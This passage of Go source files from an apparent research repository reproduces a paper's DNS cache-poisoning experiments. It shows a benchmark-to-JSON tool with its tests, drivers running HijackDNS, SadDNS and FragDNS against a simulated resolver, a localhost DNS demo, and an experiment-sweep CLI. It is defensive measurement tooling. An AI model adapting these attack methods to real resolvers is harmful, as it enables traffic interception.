	sc.Buffer(make([]byte, 1<<20), 1<<20)
	results, err := Parse(sc)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	if len(results) == 0 {
		fmt.Fprintln(os.Stderr, "benchjson: no benchmark lines on stdin")
		os.Exit(1)
	}
	enc := json.NewEncoder(os.Stdout)
	enc.SetIndent("", "  ")
	if err := enc.Encode(results); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}
