// Command benchjson converts `go test -bench` output on stdin into a
// JSON document on stdout mapping each benchmark to its ns/op — the
// machine-readable perf record CI uploads as BENCH_ci.json so the
// repository accumulates a benchmark trajectory across commits.
//
// Usage:
//
//	go test -run '^$' -bench . -benchtime=1x ./... | benchjson > BENCH_ci.json
package main

import (
	"bufio"
	"encoding/json"
	"fmt"
	"os"
	"regexp"
	"strconv"
	"strings"
)

// benchLine matches one benchmark result line, e.g.
//
//	BenchmarkCampaign-8   1   123456789 ns/op   512 B/op   7 allocs/op
var benchLine = regexp.MustCompile(`^(Benchmark\S+)\s+(\d+)\s+([0-9.]+) ns/op`)

// Result is one parsed benchmark measurement.
type Result struct {
	// Name is the benchmark with its GOMAXPROCS suffix stripped.
	Name string `json:"name"`
	// Iterations is the b.N the measurement ran.
	Iterations int `json:"iterations"`
	// NsPerOp is the reported nanoseconds per operation.
	NsPerOp float64 `json:"ns_per_op"`
}

// Parse extracts benchmark results from go-test bench output.
func Parse(r *bufio.Scanner) ([]Result, error) {
	var out []Result
	for r.Scan() {
		m := benchLine.FindStringSubmatch(strings.TrimSpace(r.Text()))
		if m == nil {
			continue
		}
		iters, err := strconv.Atoi(m[2])
		if err != nil {
			return nil, fmt.Errorf("benchjson: bad iteration count in %q: %w", r.Text(), err)
		}
		ns, err := strconv.ParseFloat(m[3], 64)
		if err != nil {
			return nil, fmt.Errorf("benchjson: bad ns/op in %q: %w", r.Text(), err)
		}
		out = append(out, Result{Name: stripProcs(m[1]), Iterations: iters, NsPerOp: ns})
	}
	return out, r.Err()
}

// stripProcs drops the -N GOMAXPROCS suffix so records compare across
// machines.
func stripProcs(name string) string {
	if i := strings.LastIndex(name, "-"); i > 0 {
		if _, err := strconv.Atoi(name[i+1:]); err == nil {
			return name[:i]
		}
	}
	return name
}

func main() {
	sc := bufio.NewScanner(os.Stdin)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	results, err := Parse(sc)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	if len(results) == 0 {
		fmt.Fprintln(os.Stderr, "benchjson: no benchmark lines on stdin")
		os.Exit(1)
	}
	enc := json.NewEncoder(os.Stdout)
	enc.SetIndent("", "  ")
	if err := enc.Encode(results); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}
