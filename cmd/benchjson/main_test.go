package main

import (
	"bufio"
	"strings"
	"testing"
)

func TestParseBenchOutput(t *testing.T) {
	in := `goos: linux
goarch: amd64
pkg: crosslayer
BenchmarkTable1Applications-8        	       1	   1234567 ns/op
BenchmarkCampaign-8                  	       1	998877665 ns/op	  512 B/op	       7 allocs/op
BenchmarkTable3Parallel/serial-16    	       2	 42000000.5 ns/op
PASS
ok  	crosslayer	2.345s
`
	got, err := Parse(bufio.NewScanner(strings.NewReader(in)))
	if err != nil {
		t.Fatal(err)
	}
	want := []Result{
		{Name: "BenchmarkTable1Applications", Iterations: 1, NsPerOp: 1234567},
		{Name: "BenchmarkCampaign", Iterations: 1, NsPerOp: 998877665},
		{Name: "BenchmarkTable3Parallel/serial", Iterations: 2, NsPerOp: 42000000.5},
	}
	if len(got) != len(want) {
		t.Fatalf("parsed %d results, want %d: %+v", len(got), len(want), got)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("result %d = %+v, want %+v", i, got[i], want[i])
		}
	}
}

func TestParseIgnoresNonBenchLines(t *testing.T) {
	got, err := Parse(bufio.NewScanner(strings.NewReader("PASS\nok x 1s\n--- FAIL: TestY\n")))
	if err != nil || len(got) != 0 {
		t.Fatalf("got %v, %v; want empty, nil", got, err)
	}
}

func TestStripProcs(t *testing.T) {
	for in, want := range map[string]string{
		"BenchmarkX-8":        "BenchmarkX",
		"BenchmarkX-16":       "BenchmarkX",
		"BenchmarkX":          "BenchmarkX",
		"BenchmarkX/sub-4":    "BenchmarkX/sub",
		"BenchmarkX/n-1000-8": "BenchmarkX/n-1000",
	} {
		if got := stripProcs(in); got != want {
			t.Errorf("stripProcs(%q) = %q, want %q", in, got, want)
		}
	}
}
