package main

import (
	"bufio"
	"strings"
	"testing"
)

func TestParseBenchOutput(t *testing.T) {
	in := `goos: linux
goarch: amd64
pkg: crosslayer
BenchmarkTable1Applications-8        	       1	   1234567 ns/op
BenchmarkCampaign-8                  	       1	998877665 ns/op	  512 B/op	       7 allocs/op
BenchmarkTable3Parallel/serial-16    	       2	 42000000.5 ns/op
PASS
ok  	crosslayer	2.345s
`
	got, err := Parse(bufio.NewScanner(strings.NewReader(in)))
	if err != nil {
		t.Fatal(err)
	}
	want := []Result{
		{Name: "BenchmarkTable1Applications", Iterations: 1, NsPerOp: 1234567, BytesPerOp: -1, AllocsPerOp: -1},
		{Name: "BenchmarkCampaign", Iterations: 1, NsPerOp: 998877665, BytesPerOp: 512, AllocsPerOp: 7},
		{Name: "BenchmarkTable3Parallel/serial", Iterations: 2, NsPerOp: 42000000.5, BytesPerOp: -1, AllocsPerOp: -1},
	}
	if len(got) != len(want) {
		t.Fatalf("parsed %d results, want %d: %+v", len(got), len(want), got)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("result %d = %+v, want %+v", i, got[i], want[i])
		}
	}
}

func TestParseIgnoresNonBenchLines(t *testing.T) {
	got, err := Parse(bufio.NewScanner(strings.NewReader("PASS\nok x 1s\n--- FAIL: TestY\n")))
	if err != nil || len(got) != 0 {
		t.Fatalf("got %v, %v; want empty, nil", got, err)
	}
}

func TestCompareBreach(t *testing.T) {
	old := []Result{{Name: "BenchmarkCampaign", NsPerOp: 100, AllocsPerOp: 7}}
	cur := []Result{{Name: "BenchmarkCampaign", NsPerOp: 200, AllocsPerOp: 9}}
	table, breach := Compare(old, cur, 15)
	if !breach {
		t.Fatalf("2x slowdown passed a 15%% gate:\n%s", table)
	}
	for _, want := range []string{"BREACH", "+100.0%", "7→9", "refresh the baseline"} {
		if !strings.Contains(table, want) {
			t.Errorf("table missing %q:\n%s", want, table)
		}
	}
}

func TestCompareWithinTolerance(t *testing.T) {
	old := []Result{
		{Name: "BenchmarkCampaign", NsPerOp: 100, AllocsPerOp: -1},
		{Name: "BenchmarkFaster", NsPerOp: 100, AllocsPerOp: 3},
	}
	cur := []Result{
		{Name: "BenchmarkCampaign", NsPerOp: 110, AllocsPerOp: 0},
		{Name: "BenchmarkFaster", NsPerOp: 40, AllocsPerOp: 3},
	}
	table, breach := Compare(old, cur, 15)
	if breach {
		t.Fatalf("10%% slowdown breached a 15%% gate:\n%s", table)
	}
	// A side without memory columns renders as "?", and 0 allocs must
	// render as a real 0, not as absent.
	if !strings.Contains(table, "?→0") {
		t.Errorf("table missing ?→0 alloc transition:\n%s", table)
	}
	if strings.Contains(table, "BREACH") {
		t.Errorf("unexpected breach row:\n%s", table)
	}
}

func TestCompareMissingBenchmark(t *testing.T) {
	old := []Result{{Name: "BenchmarkDropped", NsPerOp: 100, AllocsPerOp: -1}}
	cur := []Result{{Name: "BenchmarkAdded", NsPerOp: 50, AllocsPerOp: 2}}
	table, breach := Compare(old, cur, 15)
	if !breach {
		t.Fatalf("dropped benchmark passed the gate:\n%s", table)
	}
	if !strings.Contains(table, "BREACH (missing from new record)") {
		t.Errorf("table missing dropped-benchmark breach:\n%s", table)
	}
	// A benchmark only the new record has is a note, never a breach.
	if !strings.Contains(table, "new (not in baseline)") {
		t.Errorf("table missing new-benchmark note:\n%s", table)
	}
}

func TestStripProcs(t *testing.T) {
	for in, want := range map[string]string{
		"BenchmarkX-8":        "BenchmarkX",
		"BenchmarkX-16":       "BenchmarkX",
		"BenchmarkX":          "BenchmarkX",
		"BenchmarkX/sub-4":    "BenchmarkX/sub",
		"BenchmarkX/n-1000-8": "BenchmarkX/n-1000",
	} {
		if got := stripProcs(in); got != want {
			t.Errorf("stripProcs(%q) = %q, want %q", in, got, want)
		}
	}
}
