// Command crosslayer runs the three cache-poisoning methodologies
// against the canonical victim scenario and reports their telemetry.
//
// Usage:
//
//	crosslayer [-attack hijack|saddns|fragdns|all] [-seed N] [-ports N]
package main

import (
	"flag"
	"fmt"
	"os"

	"crosslayer"
	"crosslayer/internal/dnssrv"
	"crosslayer/internal/scenario"
)

func main() {
	attack := flag.String("attack", "all", "attack to run: hijack, saddns, fragdns or all")
	seed := flag.Int64("seed", 1, "simulation seed")
	ports := flag.Int("ports", 2000, "resolver ephemeral-port range size for SadDNS")
	flag.Parse()

	report := func(name string, res crosslayer.Result) {
		fmt.Printf("%-10s success=%-5v iterations=%-4d queries=%-4d packets=%-8d time=%-12v %s\n",
			name, res.Success, res.Iterations, res.QueriesTriggered, res.AttackerPackets, res.Duration, res.Detail)
	}

	run := func(name string) {
		switch name {
		case "hijack":
			s := crosslayer.NewScenario(crosslayer.Config{Seed: *seed})
			report("HijackDNS", crosslayer.RunHijackDNS(s, crosslayer.AttackOptions{}))
		case "saddns":
			cfg := crosslayer.Config{Seed: *seed}
			cfg.ServerCfg = dnssrv.DefaultConfig()
			cfg.ServerCfg.RateLimit = true
			cfg.ServerCfg.RateLimitQPS = 10
			s := crosslayer.NewScenario(cfg)
			s.ResolverHost.Cfg.PortMin = 32768
			s.ResolverHost.Cfg.PortMax = uint16(32768 + *ports - 1)
			report("SadDNS", crosslayer.RunSadDNS(s, crosslayer.AttackOptions{MaxIterations: 200}))
		case "fragdns":
			cfg := crosslayer.Config{Seed: *seed}
			cfg.ServerCfg = dnssrv.DefaultConfig()
			cfg.ServerCfg.PadAnswersTo = 1200
			s := crosslayer.NewScenario(cfg)
			report("FragDNS", crosslayer.RunFragDNS(s, crosslayer.AttackOptions{}))
		default:
			fmt.Fprintf(os.Stderr, "unknown attack %q\n", name)
			os.Exit(2)
		}
	}

	fmt.Printf("victim resolver %v, target domain vict.im (ns %v), attacker %v\n\n",
		scenario.ResolverIP, scenario.NSIP, scenario.AttackerIP)
	if *attack == "all" {
		run("hijack")
		run("saddns")
		run("fragdns")
		return
	}
	run(*attack)
}
