// Command dnsdemo runs the repository's DNS wire-format code over REAL
// UDP sockets on localhost: it starts a miniature authoritative server
// for vict.im on 127.0.0.1 (random port) using internal/dnswire and
// internal/dnssrv's zone/response logic, then queries it with a stub
// client — demonstrating that the codec is not simulator-bound.
//
// The attacks themselves require IP spoofing and raw fragments, which
// ordinary sockets (correctly) cannot do; those live on the simulator.
package main

import (
	"fmt"
	"log"
	"net"
	"time"

	"crosslayer/internal/dnssrv"
	"crosslayer/internal/dnswire"
	"crosslayer/internal/scenario"
)

func main() {
	zone := scenario.BuildVictimZone(false)

	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		log.Fatalf("listen: %v", err)
	}
	defer pc.Close()
	fmt.Printf("authoritative server for vict.im on %v\n\n", pc.LocalAddr())

	go serve(pc, zone)

	for _, q := range []struct {
		name string
		typ  dnswire.Type
	}{
		{"www.vict.im.", dnswire.TypeA},
		{"vict.im.", dnswire.TypeMX},
		{"vict.im.", dnswire.TypeTXT},
		{"_xmpp-server._tcp.vict.im.", dnswire.TypeSRV},
		{"missing.vict.im.", dnswire.TypeA},
	} {
		if err := query(pc.LocalAddr().String(), q.name, q.typ); err != nil {
			log.Fatalf("query %s %v: %v", q.name, q.typ, err)
		}
	}
}

// serve answers queries from the zone, reusing the repository's
// response-synthesis rules.
func serve(pc net.PacketConn, zone *dnssrv.Zone) {
	buf := make([]byte, 4096)
	for {
		n, addr, err := pc.ReadFrom(buf)
		if err != nil {
			return
		}
		q, err := dnswire.Unpack(buf[:n])
		if err != nil || q.Response || len(q.Questions) == 0 {
			continue
		}
		resp := &dnswire.Message{
			ID: q.ID, Response: true, Authoritative: true,
			RecursionDesired: q.RecursionDesired, Questions: q.Questions,
		}
		answers, exists := zone.Lookup(q.Question().Name, q.Question().Type)
		resp.Answers = answers
		if len(answers) == 0 {
			if !exists {
				resp.RCode = dnswire.RCodeNXDomain
			}
			if soa := zone.SOA(); soa != nil {
				resp.Authority = append(resp.Authority, soa)
			}
		}
		wire, err := resp.Pack()
		if err != nil {
			continue
		}
		pc.WriteTo(wire, addr)
	}
}

// query performs one stub lookup over a real UDP socket.
func query(server, name string, typ dnswire.Type) error {
	conn, err := net.Dial("udp", server)
	if err != nil {
		return err
	}
	defer conn.Close()
	q := dnswire.NewQuery(uint16(time.Now().UnixNano()), name, typ)
	wire, err := q.Pack()
	if err != nil {
		return err
	}
	if _, err := conn.Write(wire); err != nil {
		return err
	}
	conn.SetReadDeadline(time.Now().Add(2 * time.Second))
	buf := make([]byte, 4096)
	n, err := conn.Read(buf)
	if err != nil {
		return err
	}
	msg, err := dnswire.Unpack(buf[:n])
	if err != nil {
		return err
	}
	fmt.Printf("%s %v -> %s", name, typ, msg.RCode)
	for _, rr := range msg.Answers {
		fmt.Printf("\n    %s", rr)
	}
	fmt.Println()
	return nil
}
