// Command xlmeasure regenerates the paper's evaluation artifacts
// through the experiment registry: every table (1–6) and figure (3–5)
// of "From IP to Transport and Beyond" on the synthetic populations
// described in DESIGN.md, the same-prefix and forwarder studies, and
// the campaign matrix — the method × victim × profile × defense-set ×
// chain-depth × placement × transport cross-product the paper only
// samples.
//
// Population scans fan out over the sharded experiment engine, so the
// default sample cap is 10k items per dataset (the paper's populations
// reach 1.58M; raise -n to scan more). Output depends only on -n,
// -seed and -shard-size (and, for campaign, the filters, -trials and
// -lattice-rank): any -parallel value produces byte-identical output.
// Ctrl-C cancels a sweep at the next shard boundary.
//
// Usage:
//
//	xlmeasure -list
//	xlmeasure [-exp all|<experiment>] [-format text|json|csv|md]
//	          [-n sampleCap] [-seed N] [-parallel workers]
//	          [-shard-size items] [-sad-ports N] [-quiet]
//	          [-methods m,...] [-victims v,...] [-profiles p,...]
//	          [-defenses d,...] [-defense-sets s,...] [-lattice-rank N]
//	          [-chain-depths n,...] [-placement p,...] [-trials N]
//	          [-transports t,...] [-deployments d,...] [-downgrade]
//	xlmeasure -serve [-addr host:port] [-checkpoint file]
//	          [-checkpoint-every d]
//
// -list prints the registry: every experiment name with its title.
// -exp takes a registry name (fig1/fig2 are message-sequence demos
// and print a pointer to their example program instead); an unknown
// name exits non-zero listing the valid keys, and so does a failed
// run. -format selects the renderer: text (the golden-artifact form),
// json (lossless, machine-readable), csv or md.
//
// Campaign filters take registry keys (empty means the full axis):
// methods hijack,saddns,frag; victims radius,xmpp,smtp,web,ntp,
// bitcoin,vpn,pki,ocsp,cdn; profiles bind,unbound,powerdns,systemd,
// dnsmasq; chain-depths 0,1,2,3 (forwarder hops between client and
// resolver); placement stub,carrier (where the attacker operates
// from). The defense axis is set-valued — a stacking lattice over the
// base defenses dnssec,0x20,no-rrl,shuffle: -lattice-rank bounds the
// swept stack size (default: singletons + all pairs + the full stack;
// 1 reproduces the historical scalar axis), -defenses restricts the
// base defenses the lattice composes ("none" — the always-present
// undefended baseline — is accepted too), and -defense-sets instead
// picks exact stacks by canonical key (e.g. 0x20+shuffle; component
// order and case don't matter). The transport axis sweeps the chain's
// upstream transports — udp,tcp,dot,doh,doq (uniform), mixed (a
// plaintext front hop before an encrypted recursive) and opp (an
// opportunistic DoT chain) — and -downgrade reruns every cell under
// active downgrade pressure (opportunistic hops stripped back to
// plaintext UDP before the attack). The deployment axis replaces the
// per-cell binary toggles with sampled populations: -deployments
// sweeps named datasets (canonical,measured,hardened) that draw each
// trial world's SAV, 0x20/DNSSEC retention and forwarder port spans
// from measured rates — unlike the other filters, empty means the
// canonical (unsampled) dataset only. Unknown keys on any filter flag
// fail with the dimension's valid-key list.
//
// -serve starts the resident sweep server instead of a one-shot run:
// experiments are submitted as HTTP requests (GET /run/{experiment}
// with the flag names above as query parameters) and stream back
// newline-delimited JSON — progress events, then the report. Campaign
// cells are memoized in a content-addressed cache, so overlapping
// filtered sweeps submitted over the server's lifetime recompute only
// cells no earlier request covered, byte-identical to cold runs.
// -checkpoint persists that cache across restarts (written every
// -checkpoint-every while dirty, and flushed on shutdown — Ctrl-C
// drains the job queue and writes a final checkpoint before exiting).
package main

import (
	"context"
	"flag"
	"fmt"
	"os"
	"os/signal"
	"runtime"
	"runtime/pprof"
	"strings"

	"crosslayer"
)

// sequenceDemos are the figures that are message sequences, not
// regenerable artifacts: the CLI points at their runnable example.
var sequenceDemos = map[string]string{
	"fig1": "Figure 1 is the SadDNS message sequence; run:  go run ./examples/saddns",
	"fig2": "Figure 2 is the FragDNS message sequence; run:  go run ./examples/fragdns",
}

func main() {
	// xlmain returns an exit code instead of calling os.Exit directly so
	// its defers — in particular the profile writers — run on every exit
	// path, including failed runs.
	os.Exit(xlmain())
}

func xlmain() int {
	exp := flag.String("exp", "all", "experiment to regenerate (see -list)")
	list := flag.Bool("list", false, "list the registered experiments and exit")
	format := flag.String("format", "text", "output renderer: text|json|csv|md")
	n := flag.Int("n", 10000, "sample cap per dataset; 0 = full paper-size populations, up to 1.58M (see DESIGN.md)")
	seed := flag.Int64("seed", 42, "population seed")
	parallel := flag.Int("parallel", 0, "shard workers; 0 = GOMAXPROCS (never changes results)")
	shardSize := flag.Int("shard-size", 0, "population items per simulation shard; 0 = engine default")
	sadPorts := flag.Int("sad-ports", 0, "resolver port span the end-to-end SadDNS runs scan; 0 = per-experiment default")
	quiet := flag.Bool("quiet", false, "suppress per-dataset progress on stderr")
	methods := flag.String("methods", "", "campaign: comma-separated method keys (empty = all)")
	victims := flag.String("victims", "", "campaign: comma-separated victim keys (empty = all)")
	profiles := flag.String("profiles", "", "campaign: comma-separated resolver profile keys (empty = all)")
	defenses := flag.String("defenses", "", "campaign: comma-separated base-defense keys bounding the stacking lattice (empty = all)")
	defenseSets := flag.String("defense-sets", "", "campaign: comma-separated exact defense stacks, e.g. 0x20+shuffle (overrides the lattice; empty = lattice)")
	latticeRank := flag.Int("lattice-rank", 0, "campaign: max stacked defenses per set; 0 = default (singletons + pairs + full stack), 1 = scalar axis")
	chainDepths := flag.String("chain-depths", "", "campaign: comma-separated forwarder-chain depths 0-3 (empty = all)")
	placement := flag.String("placement", "", "campaign: comma-separated attacker placements stub,carrier (empty = all)")
	trials := flag.Int("trials", 0, "campaign: attack trials per cell; 0 = default (3)")
	transports := flag.String("transports", "", "campaign: comma-separated upstream transports udp,tcp,dot,doh,doq,mixed,opp (empty = all)")
	deployments := flag.String("deployments", "", "campaign: comma-separated deployment datasets canonical,measured,hardened (empty = canonical only)")
	downgrade := flag.Bool("downgrade", false, "campaign: run cells under active transport-downgrade pressure")
	serveMode := flag.Bool("serve", false, "run the resident sweep server instead of a one-shot experiment")
	addr := flag.String("addr", "127.0.0.1:8053", "serve: HTTP listen address")
	checkpoint := flag.String("checkpoint", "", "serve: cell-cache checkpoint file (empty = no persistence)")
	checkpointEvery := flag.Duration("checkpoint-every", 0, "serve: periodic checkpoint interval; 0 = default (30s)")
	cpuprofile := flag.String("cpuprofile", "", "write a CPU profile to this file (see DESIGN.md: profiling the trial hot path)")
	memprofile := flag.String("memprofile", "", "write an allocation (heap) profile to this file on exit")
	flag.Parse()

	if *cpuprofile != "" {
		f, err := os.Create(*cpuprofile)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 1
		}
		if err := pprof.StartCPUProfile(f); err != nil {
			fmt.Fprintln(os.Stderr, err)
			f.Close()
			return 1
		}
		defer func() {
			pprof.StopCPUProfile()
			f.Close()
		}()
	}
	if *memprofile != "" {
		defer func() {
			f, err := os.Create(*memprofile)
			if err != nil {
				fmt.Fprintln(os.Stderr, err)
				return
			}
			defer f.Close()
			runtime.GC() // settle the live heap so the profile shows retention, not garbage
			if err := pprof.WriteHeapProfile(f); err != nil {
				fmt.Fprintln(os.Stderr, err)
			}
		}()
	}

	if *list {
		for _, e := range crosslayer.ListExperiments() {
			fmt.Printf("%-12s %s\n", e.Name, e.Title)
		}
		return 0
	}

	// Ctrl-C cancels in-flight sweeps at the next shard boundary; the
	// run then exits non-zero through the normal error path. In serve
	// mode the same cancellation drains the job queue and flushes the
	// final checkpoint before the process exits.
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()

	if *serveMode {
		srv := crosslayer.NewSweepServer(crosslayer.SweepServerConfig{
			Addr:            *addr,
			CheckpointPath:  *checkpoint,
			CheckpointEvery: *checkpointEvery,
			Log:             os.Stderr,
		})
		if err := srv.Run(ctx); err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 1
		}
		return 0
	}

	// spec executes one experiment under the engine, labelling progress
	// lines with the experiment name.
	spec := func(experiment string) crosslayer.ExperimentSpec {
		s := crosslayer.ExperimentSpec{
			SampleCap:   *n,
			Seed:        *seed,
			Parallelism: *parallel,
			ShardSize:   *shardSize,
			SadPorts:    *sadPorts,
			Methods:     splitKeys(*methods),
			Victims:     splitKeys(*victims),
			Profiles:    splitKeys(*profiles),
			Defenses:    splitKeys(*defenses),
			DefenseSets: splitKeys(*defenseSets),
			ChainDepths: splitKeys(*chainDepths),
			Placements:  splitKeys(*placement),
			Transports:  splitKeys(*transports),
			Deployments: splitKeys(*deployments),
			Trials:      *trials,
			LatticeRank: *latticeRank,
			Downgrade:   *downgrade,
		}
		if !*quiet {
			s.Progress = progressPrinter(experiment)
		}
		return s
	}

	// run executes and renders one experiment, reporting whether it
	// succeeded.
	run := func(name string) bool {
		rep, err := crosslayer.RunContext(ctx, name, spec(name))
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			return false
		}
		out, err := crosslayer.RenderReport(rep, *format)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			return false
		}
		os.Stdout.Write(out)
		if *format == "text" {
			// Notes are metadata the byte-stable text artifact omits;
			// surface them after it, like the historical CLI did.
			for _, note := range rep.Notes {
				fmt.Println(note)
			}
		}
		return true
	}

	if *exp == "all" {
		// The section banners are narration: with the text renderer
		// they frame the artifacts on stdout as they always did, but
		// machine-readable formats keep stdout pure (the banners move
		// to stderr so concatenated documents stay parseable).
		banner := os.Stdout
		if *format != "text" {
			banner = os.Stderr
		}
		for _, e := range crosslayer.ListExperiments() {
			fmt.Fprintf(banner, "\n######## %s ########\n", strings.ToUpper(e.Name))
			if !run(e.Name) {
				return 1
			}
		}
		return 0
	}
	if msg, ok := sequenceDemos[*exp]; ok {
		fmt.Println(msg)
		return 0
	}
	if !known(*exp) {
		// Usage error, not run failure: print the registry's
		// valid-key listing and exit 2 like every other bad flag.
		fmt.Fprintf(os.Stderr, "unknown experiment %q (valid: %s)\n", *exp, strings.Join(registryNames(), ", "))
		return 2
	}
	if !run(*exp) {
		return 1
	}
	return 0
}

// known reports whether name is a registered experiment.
func known(name string) bool {
	for _, e := range crosslayer.ListExperiments() {
		if e.Name == name {
			return true
		}
	}
	return false
}

// registryNames returns the registered experiment names in canonical
// order.
func registryNames() []string {
	var names []string
	for _, e := range crosslayer.ListExperiments() {
		names = append(names, e.Name)
	}
	return names
}

// splitKeys parses a comma-separated filter flag; empty means "all".
func splitKeys(s string) []string {
	if strings.TrimSpace(s) == "" {
		return nil
	}
	var out []string
	for _, k := range strings.Split(s, ",") {
		if k = strings.TrimSpace(k); k != "" {
			out = append(out, k)
		}
	}
	return out
}

// progressPrinter renders per-dataset shard completions on stderr: a
// carriage-return ticker while a dataset scan is in flight, finalized
// with a newline when its last shard lands. Progress goes to stderr so
// redirected artifact output stays clean and byte-stable in every
// format.
func progressPrinter(experiment string) func(crosslayer.ExperimentProgress) {
	return func(ev crosslayer.ExperimentProgress) {
		fmt.Fprintf(os.Stderr, "\r[%s] %-22s %d items, shard %d/%d",
			experiment, ev.Dataset, ev.Items, ev.DoneShards, ev.TotalShards)
		if ev.DoneShards == ev.TotalShards {
			fmt.Fprintln(os.Stderr)
		}
	}
}
