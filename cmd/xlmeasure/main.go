// Command xlmeasure regenerates the paper's evaluation artifacts:
// every table (1–6) and figure (1–5) of "From IP to Transport and
// Beyond" on the synthetic populations described in DESIGN.md, plus
// the campaign matrix — the method × victim × profile × defense
// cross-product the paper only samples.
//
// Population scans fan out over the sharded experiment engine, so the
// default sample cap is 10k items per dataset (the paper's populations
// reach 1.58M; raise -n to scan more). Output depends only on -n,
// -seed and -shard-size (and, for campaign, the filters and -trials):
// any -parallel value produces byte-identical tables.
//
// Usage:
//
//	xlmeasure [-exp all|table1|table2|table3|table4|table5|table6|
//	           fig1|fig2|fig3|fig4|fig5|samehijack|forwarders|campaign]
//	          [-n sampleCap] [-seed N] [-parallel workers]
//	          [-shard-size items] [-quiet]
//	          [-methods m,...] [-victims v,...] [-profiles p,...]
//	          [-defenses d,...] [-defense-sets s,...] [-lattice-rank N]
//	          [-chain-depths n,...] [-placement p,...] [-trials N]
//
// Campaign filters take registry keys (empty means the full axis):
// methods hijack,saddns,frag; victims radius,xmpp,smtp,web,ntp,
// bitcoin,vpn,pki,ocsp,cdn; profiles bind,unbound,powerdns,systemd,
// dnsmasq; chain-depths 0,1,2,3 (forwarder hops between client and
// resolver); placement stub,carrier (where the attacker operates
// from). The defense axis is set-valued — a stacking lattice over the
// base defenses dnssec,0x20,no-rrl,shuffle: -lattice-rank bounds the
// swept stack size (default: singletons + all pairs + the full stack;
// 1 reproduces the historical scalar axis), -defenses restricts the
// base defenses the lattice composes ("none" — the always-present
// undefended baseline — is accepted too), and -defense-sets instead
// picks exact stacks by canonical key (e.g. 0x20+shuffle; component
// order and case don't matter). Unknown keys on any filter flag fail
// with the dimension's valid-key list.
package main

import (
	"flag"
	"fmt"
	"os"
	"strings"

	"crosslayer/internal/campaign"
	"crosslayer/internal/measure"
)

func main() {
	exp := flag.String("exp", "all", "experiment to regenerate")
	n := flag.Int("n", 10000, "sample cap per dataset; 0 = full paper-size populations, up to 1.58M (see DESIGN.md)")
	seed := flag.Int64("seed", 42, "population seed")
	parallel := flag.Int("parallel", 0, "shard workers; 0 = GOMAXPROCS (never changes results)")
	shardSize := flag.Int("shard-size", 0, "population items per simulation shard; 0 = engine default")
	quiet := flag.Bool("quiet", false, "suppress per-dataset progress on stderr")
	methods := flag.String("methods", "", "campaign: comma-separated method keys (empty = all)")
	victims := flag.String("victims", "", "campaign: comma-separated victim keys (empty = all)")
	profiles := flag.String("profiles", "", "campaign: comma-separated resolver profile keys (empty = all)")
	defenses := flag.String("defenses", "", "campaign: comma-separated base-defense keys bounding the stacking lattice (empty = all)")
	defenseSets := flag.String("defense-sets", "", "campaign: comma-separated exact defense stacks, e.g. 0x20+shuffle (overrides the lattice; empty = lattice)")
	latticeRank := flag.Int("lattice-rank", 0, "campaign: max stacked defenses per set; 0 = default (singletons + pairs + full stack), 1 = scalar axis")
	chainDepths := flag.String("chain-depths", "", "campaign: comma-separated forwarder-chain depths 0-3 (empty = all)")
	placement := flag.String("placement", "", "campaign: comma-separated attacker placements stub,carrier (empty = all)")
	trials := flag.Int("trials", 0, "campaign: attack trials per cell; 0 = default (3)")
	flag.Parse()

	// cfg executes one experiment under the engine, labelling progress
	// lines with the experiment name.
	cfg := func(experiment string) measure.Config {
		c := measure.Config{
			SampleCap:   *n,
			Seed:        *seed,
			Parallelism: *parallel,
			ShardSize:   *shardSize,
		}
		if !*quiet {
			c.Progress = progressPrinter(experiment)
		}
		return c
	}

	run := map[string]func(){
		"table1": func() { fmt.Println(measure.Table1()) },
		"table2": func() { fmt.Println(measure.Table2()) },
		"table3": func() {
			tbl, _ := measure.Table3Run(cfg("table3"))
			fmt.Println(tbl)
		},
		"table4": func() {
			tbl, _ := measure.Table4Run(cfg("table4"))
			fmt.Println(tbl)
		},
		"table5": func() {
			tbl, _ := measure.Table5Run(cfg("table5"))
			fmt.Println(tbl)
		},
		"table6": func() {
			fmt.Println("running the three attacks end-to-end (SadDNS scans a 2000-port range)...")
			tbl, cmp := measure.Table6Run(cfg("table6"), 2000)
			fmt.Println(tbl)
			fmt.Printf("same-prefix interception (simulated, paper ~80%%): %.0f%%\n", cmp.SamePrefixRate*100)
		},
		"campaign": func() {
			ccfg := campaign.Config{
				Exec:        cfg("campaign"),
				Trials:      *trials,
				LatticeRank: *latticeRank,
				Filter: campaign.Filter{
					Methods:     splitKeys(*methods),
					Victims:     splitKeys(*victims),
					Profiles:    splitKeys(*profiles),
					Defenses:    splitKeys(*defenses),
					DefenseSets: splitKeys(*defenseSets),
					ChainDepths: splitKeys(*chainDepths),
					Placements:  splitKeys(*placement),
				},
			}
			res, err := campaign.Run(ccfg)
			if err != nil {
				fmt.Fprintln(os.Stderr, err)
				os.Exit(2)
			}
			fmt.Println(campaign.Matrix(res))
			fmt.Println(campaign.Summary(res))
			fmt.Println(campaign.DepthTable(res))
			fmt.Println(campaign.Lattice(res))
		},
		"fig1": func() {
			fmt.Println("Figure 1 is the SadDNS message sequence; run:  go run ./examples/saddns")
		},
		"fig2": func() {
			fmt.Println("Figure 2 is the FragDNS message sequence; run:  go run ./examples/fragdns")
		},
		"fig3": func() {
			out, _ := measure.Figure3Run(cfg("fig3"))
			fmt.Println(out)
		},
		"fig4": func() {
			out, _, _ := measure.Figure4Run(cfg("fig4"))
			fmt.Println(out)
		},
		"fig5": func() {
			out, _, _ := measure.Figure5Run(cfg("fig5"))
			fmt.Println(out)
		},
		"samehijack": func() {
			cmp := measure.RunComparisonWith(measure.Config{Seed: *seed, Parallelism: *parallel}, 400)
			fmt.Printf("same-prefix hijack interception over random (stub victim, carrier attacker) pairs: %.0f%% (paper: ~80%%)\n",
